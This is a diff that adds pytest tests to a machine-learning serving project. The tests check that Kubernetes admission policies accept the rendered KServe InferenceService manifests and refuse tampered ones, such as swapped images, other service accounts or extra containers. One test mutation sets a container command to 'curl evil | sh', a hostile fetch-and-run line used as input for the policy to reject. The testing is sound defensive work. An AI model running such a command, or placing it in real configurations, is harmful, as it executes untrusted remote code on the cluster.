@@ -24,6 +24,7 @@ from churnops.platform.settings import Settings
 from pipelines.compile import compile_all
 from tests.support import assembly, network_flows
 from tests.support.assembly import Parts, Stack
+from tests.support.k8s_schemas import schema_errors
 
 ROOT = Path(__file__).resolve().parents[3]
 DIGEST = "sha256:" + "b" * 64
@@ -288,3 +289,73 @@ def test_image_names_are_normalised_as_docker_does() -> None:
 def test_the_operator_chart_tags_its_images_with_the_release() -> None:
     assert assembly.operator_image_tag("1.18.1") == "v1.18.1"
     assert assembly.operator_image_tag(platform.KNATIVE_OPERATOR.version) == platform.KNATIVE_OPERATOR.version
+
+
+def _inference_service(rendered: dict, env: str) -> dict[str, Any]:
+    (isvc,) = [o for o in rendered[env] if o["kind"] == "InferenceService"]
+    return isvc
+
+
+def test_each_serving_namespace_admits_what_deploy_renders_and_its_policy_validates(
+    stack: Stack, rendered: dict
+) -> None:
+    for env, namespace in platform.SERVING_NAMESPACES.items():
+        isvc = _inference_service(rendered, env)
+        assert isvc["metadata"]["namespace"] == namespace
+        assert not assembly.admission_refusals(stack, namespace, isvc, "CREATE")
+        assert not assembly.admission_refusals(stack, namespace, isvc, "UPDATE")
+        # the other environment's policy is not bound here: the deployer's own namespace rules apply
+        bound = [b for b in stack.of_type(assembly.ADMISSION_BINDING) if namespace in str(b["spec"]["matchResources"])]
+        assert [b["spec"]["policyName"] for b in bound] == [f"churnops-inferenceservice-{env}"]
+    for kind, token in (
+        ("ValidatingAdmissionPolicy", assembly.ADMISSION_POLICY),
+        ("ValidatingAdmissionPolicyBinding", assembly.ADMISSION_BINDING),
+    ):
+        for obj in stack.of_type(token):
+            typed = {"apiVersion": "admissionregistration.k8s.io/v1", **obj, "kind": kind}
+            assert schema_errors(typed) == [], typed["metadata"]["name"]
+
+
+def _break(isvc: dict[str, Any], change: str) -> dict[str, Any]:
+    broken = copy.deepcopy(isvc)
+    predictor, transformer = broken["spec"]["predictor"], broken["spec"]["transformer"]
+    image = predictor["containers"][0]["image"]
+    edits = {
+        "a predictor command": lambda: predictor["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
+        "another transformer command": lambda: transformer["containers"][0].update(command=["python", "-c", "1"]),
+        "an image by tag": lambda: predictor["containers"][0].update(image=image.split("@")[0] + ":latest"),
+        "an image from elsewhere": lambda: transformer["containers"][0].update(
+            image="docker.io/library/python@" + image.split("@")[1]
+        ),
+        "another account": lambda: predictor.update(serviceAccountName="churnops-deployer"),
+        "an init container": lambda: transformer.update(initContainers=[{"name": "x", "image": image}]),
+        "a model framework": lambda: predictor.update(sklearn={"storageUri": "gs://m/1"}),
+        "the serviceAccount alias": lambda: transformer.update(serviceAccount="churnops-deployer"),
+        "an image volume": lambda: predictor.update(volumes=[{"name": "v", "image": {"reference": image}}]),
+        "an explainer": lambda: broken["spec"].update(explainer={"containers": [{"name": "e", "image": image}]}),
+    }
+    edits[change]()
+    return broken
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        ("a predictor command", "predictor containers keep the image's entry point"),
+        ("another transformer command", "transformer containers run python -m serving.transformer"),
+        ("an image by tag", "predictor containers run"),
+        ("an image from elsewhere", "transformer containers run"),
+        ("another account", "the predictor runs as churnops-predictor"),
+        ("an init container", "no model framework, worker spec, init container"),
+        ("a model framework", "no model framework"),
+        ("the serviceAccount alias", "serviceAccount alias"),
+        ("an image volume", "no image volume"),
+        ("an explainer", "no explainer"),
+    ],
+)
+def test_admission_refuses_an_inference_service_that_runs_something_else(
+    stack: Stack, rendered: dict, change: str, message: str
+) -> None:
+    for env, namespace in platform.SERVING_NAMESPACES.items():
+        refusals = assembly.admission_refusals(stack, namespace, _break(_inference_service(rendered, env), change))
+        assert refusals and any(message in refusal for refusal in refusals), refusals
